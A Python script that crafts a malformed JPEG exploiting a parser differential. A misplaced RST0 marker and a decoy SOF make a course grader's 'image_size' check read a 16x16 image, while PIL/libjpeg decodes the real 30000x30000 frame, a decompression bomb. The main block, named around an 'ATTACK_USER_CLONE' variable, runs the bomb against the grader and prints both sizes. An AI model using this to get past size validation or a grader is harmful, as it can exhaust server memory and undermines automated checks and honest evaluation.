import io, struct
from PIL import Image
def tiny_jpeg():
    b = io.BytesIO(); Image.new("L", (16, 16), 0).save(b, "JPEG", quality=50); return b.getvalue()
def bomb(W, H, k=0):
    j = bytearray(tiny_jpeg())
    # patch SOF0 dims
    at = 2
    while True:
        m, ln = j[at+1], struct.unpack(">H", j[at+2:at+4])[0]
        if m == 0xC0:
            j[at+5:at+9] = struct.pack(">HH", H, W); break
        at += 2 + ln
    body = bytes(j[2:])          # APP0 ... EOI
    body = body.replace(b"\xff\xd9", bytes([0xff, 0xfe, 0x00, 0x04, k % 256, k // 256]) + b"\xff\xd9") if k else body  # distinct per image (a COM before EOI)
    out = bytearray(b"\xff\xd8\xff\xd0") + body   # SOI, RST0 (no length for libjpeg), then the real image
    jump = 2 + 2 + struct.unpack(">H", out[4:6])[0]   # where a reader that gives RST0 a length lands
    assert len(out) <= jump, (len(out), jump)
    out += b"\x00" * (jump - len(out))
    out += b"\xff\xc0\x00\x0b\x08\x00\x10\x00\x10\x01\x01\x11\x00"   # a small SOF for that reader
    return bytes(out)
if __name__ == "__main__":
    import base64, sys
    sys.path.insert(0, (__import__("os").environ.get("ATTACK_USER_CLONE") or __import__("os").path.abspath(__import__("os").path.join(__import__("os").path.dirname(__import__("os").path.abspath(__file__)), "..", "..", "..", ".."))))
    from grader.feedback import image_size
    b = bomb(30000, 30000)
    print("len", len(b), "course image_size ->", image_size("image/jpeg", base64.b64encode(b).decode()))
    im = Image.open(io.BytesIO(b)); print("PIL (libjpeg's marker rules) ->", im.size)
